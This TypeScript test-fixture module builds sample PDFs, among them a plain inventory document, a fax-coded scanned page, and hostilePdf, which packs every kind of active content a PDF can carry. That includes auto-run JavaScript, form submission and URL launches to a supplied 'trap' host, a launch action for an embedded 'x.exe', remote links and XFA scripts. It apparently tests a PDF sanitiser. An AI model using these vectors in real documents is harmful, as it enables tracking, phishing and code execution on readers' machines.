import PDFDocument from 'pdfkit'
import { buffer } from 'node:stream/consumers'

/** A PDF of some pages with words on each, as an office would print it; with a password it opens with that only. */
export async function plainPdf({
  pages = 3,
  password,
  weightBytes = 0,
}: { pages?: number; password?: string; weightBytes?: number } = {}) {
  const pdf = new PDFDocument({
    size: 'LETTER',
    compress: weightBytes === 0,
    ...(password && { userPassword: password }),
  })
  if (weightBytes > 0) pdf.file(Buffer.alloc(weightBytes, 'weight '), { name: 'weight.bin' })
  for (let page = 1; page <= pages; page += 1) {
    if (page > 1) pdf.addPage()
    pdf.fontSize(24).text(`Inventory, page ${page}`)
    pdf.fontSize(12).text('The household effects of the decedent, as found in the house on Canyon Road. '.repeat(12))
  }
  pdf.end()
  return buffer(pdf)
}

/** A PDF made of its objects as they stand here, the first being its catalogue. */
export function rawPdf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n'
  const offsets: number[] = []
  objects.forEach((body, index) => {
    offsets.push(text.length)
    text += `${index + 1} 0 obj\n${body}\nendobj\n`
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  )
}

const stream = (content: string, more = '') => `<< ${more} /Length ${content.length} >>\nstream\n${content}\nendstream`

/** Everything that a PDF can carry to run, to call somebody at `trap`, or to bring something along. */
export function hostilePdf(trap: string): Buffer {
  const script = `app.alert('ran'); app.launchURL('${trap}/script'); this.submitForm('${trap}/submit'); this.exportDataObject({cName:'x.exe',nLaunch:2})`
  const js = `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} /AA << /WC ${js} /DP ${js} >>
       /Names << /JavaScript << /Names [(a) ${js}] >> /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>
       /AcroForm << /Fields [7 0 R] /XFA 9 0 R /NeedAppearances true >> /URI << /Base (${trap}/base/) >> >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
       /Resources << /Font << /F1 5 0 R >> /XObject << /X1 10 0 R >> >> /AA << /O ${js} /C ${js} >>
       /Annots [7 0 R 8 0 R << /Type /Annot /Subtype /Link /Rect [0 396 612 792] /A << /S /Launch /F (${trap}/launch) >> >>
         << /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /GoToR /F (${trap}/other.pdf) /NewWindow true >> >>
         << /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /JS (app.alert(2)) >> >>] >>`,
    stream(`BT /F1 24 Tf 72 700 Td (A hostile letter) Tj ET /X1 Do`),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    `<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /V (typed)
       /AA << /K ${js} /F ${js} /V ${js} /C ${js} /Fo ${js} >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${trap}/link) >> >>`,
    stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><draw><value><image href="${trap}/xfa.png"/></value></draw><event activity="initialize"><script contentType="application/x-javascript">app.alert(3)</script></event></subform></template></xdp:xdp>`,
    ),
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${trap}/image.bin) >> /Length 0 >>
stream

endstream`,
    stream('MZ this would be a program', '/Type /EmbeddedFile'),
  ])
}

/** A sheet as a scanner sends it: one black picture in the coding of fax machines (ITU-T T.6), and no words. */
export function scannedPdf(): Buffer {
  // Each row as the one before, all white, then the end; shown the other way round.
  const coded = `${'ff'.repeat(8)}001001>`
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /X1 5 0 R >> >> >>',
    stream('400 0 0 400 100 200 cm /X1 Do'),
    stream(
      coded,
      `/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0]
       /Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 64 /Rows 64 >>]`,
    ),
  ])
}
